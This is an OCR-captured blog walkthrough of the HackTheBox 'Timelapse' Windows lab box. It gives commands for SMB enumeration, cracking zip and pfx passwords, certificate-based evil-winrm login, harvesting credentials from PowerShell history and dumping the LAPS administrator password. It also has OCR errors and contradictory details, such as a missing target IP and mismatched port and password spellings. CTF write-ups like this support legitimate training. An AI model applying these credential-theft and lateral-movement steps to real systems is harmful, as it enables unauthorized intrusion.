Timelapse HTB (Hackthebox) Walkthrough

Introduction ????????

In this post, You will learn how to CTF the Timelapse from hackthebox and below is the video format of the post, Check it out ????????

Hacking phases in Timelapse1. Nmap scan
  2. Enumeration (Enumerating SMB)
  3. Gaining access
  4. Privilege escalation
  5. Lateral movement
  6. Get the root flag

Hacking Timelapse from HTB

Follow the steps carefully and if there is any kind of error or the box is not working you are free to text me on discord, click below to join my discord community ????????

Discord: https://discord.gg/rmW5eWsjhR


Target IP

The standard target IP is and the target is using windows OS, So we know that we are not going to enumerate a linux system, Let’s hack a windows machine.Nmap scan

e are going to do a full port scan and service and version scan and the scan took almost 20 min to finish.

sudo nmap -p- -sV -T4

We can see that the port 22 and 80 are open and both the ports are running a standard service.

Maybe there is a way we could connect to the target using port 22 that is using ssh service.

Enumeration (Enumerating smb) ????

To enumerate the smb we are using the smbmap tool.

smbmap -H -u " " -p " "Let’s take a look at the workgroup present.

smbclient -L // -N

Let’s enumerate the share workgroup.

smbclient //
ls Dev
cd Dev
get winrm_backup.zip
cd ..
cd HelpDesk\

By enumerating through the /share directory we have found winrm_backup.zip which is password protected.

unzip winrm_backup.zip

Password cracking ????

Let’s use fcrackzip to crack the password.

fcrackzip -D -u winrm_backup.zip -p pass.txt

The password for the zip file is supreme legacy.unzip winrm_backup.zip

The password will be supremelegacy.

We could see a pfx after unzipping winrm_backup.zip.

file legacy_dev_auth.pfx

Converting the pfx file to .hash format so, that we can use John and crack the password.

pfx2john legacyy_dev_auth.pfx >pfx_timelapse.hash

Once we converted the file to .hash format let’s use John to crackthe password.

John -w=pass.txtpfx_timelapse.hash –rule /usr/share/John/rules/rockyou-30000.rule

The password we got is thuglegacy.

Exporting certificate

Using the pfx file we could export the certificate of key file and private key.


openssl pkcs12 -in legacyy_dev_auth.pfx -nocerts -out priv-key.pem -nodes

Now enter the password as thug legacy.

cat priv-key.pem
cat certificate.pem

Copy from begin to end in a separate file like the below pic.


Now, let’s use legacy.cert and legacy.key files to perform authentication via SSL using evil-winrm.

Gaining access ????????

We have gained the access using evil winrm.

evil-winrm -S -k legacy.key -c legacy.cert -IPrivilege escalation

Let’s check for number of users in this target machine.

cd C:\Users\

Wedidn’t get much information from the above users. Let’s check the privilege with net user legacy.

net user legacyy

Querying the history file path using env variable.

echo $env:APPDATA\Microsoft\Windows\PowerShell\PSReadLine\
cd $env:APPDATA\Microsoft\Windows\PowerShell\PSReadLine\

Now, we have got credentials for svc_deploy.

cat  ConsoleHost_history.txt

Reusing this credentials.

cd C:\Users
$so = New-PSSessionOption -SkipCACheck -SkipCNCheck -SkipRevocationCheck

$p = ConvertTo-SecureString 'E3R$Q62^12p7PLlC%KWaxuaV' -AsPlainText -Force

$c = New-Object System.Management.Automation.PSCredential ('svc_deploy', $p)

Passing command via-ps remoting.

invoke-command -computername localhost -credential $c -port 5986 -usessl -SessionOption $so -scriptblock {whoami}timelapse\svc_deploy

invoke-command -computername localhost -credential $c -port 5986 -usessl -SessionOption $so -scriptblock {hostname}

We are now able to query this session as svc_deploy, Checking the privileges of this user,

invoke-command -computername localhost -credential $c -port 5986 -usessl -SessionOption $so -scriptblock {whoami /priv}

Let’s check the group members of net user.

invoke-command -computername localhost -credential $c -port 5986 -usessl -SessionOption $so -scriptblock {net user svc_deploy}

This user svc_deploy is now a member of LAPS_Reader now we can extract the local administrator password.

Lateral movement

Let’s check LAPS password using AD-MODULE,


invoke-command -computername localhost -credential $c -port 5986 -usessl -SessionOption $so-scriptblock {Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd, ms-Mcs-AdmPwdExpirationTime}

We can see that the local Administrator password of DC01$ is  7D[aiwGj;6#/ 6V05167hl+kb

Lets use evil-winrm to PS-Remote with this credential

evil-winrm -u 'Administrator' -p '7D[aiwGj;6#} 6V05167hl+kb' -i  -S

The credentials will change each time you play.

Root Flag capture

dir C:\Users
cd C:\Users\TRX\Desktop
type root.txtAccording to me this is a very simple challenge and I rate it some where around 2 out of 10 and I hope you like the post, See you in next post. ❤


Also Read: Broken vulnhub challange

Ads Blocker Image Powered by Code Help Pro

Ads Blocker Detected!!!

We have detected that you are using extensions or brave browser to blockads. Please support us by disabling these ads blocker.Our website is made possible by displayingAds hope you whitelist our site. We use veryminimal Ads in our site


Scroll to Top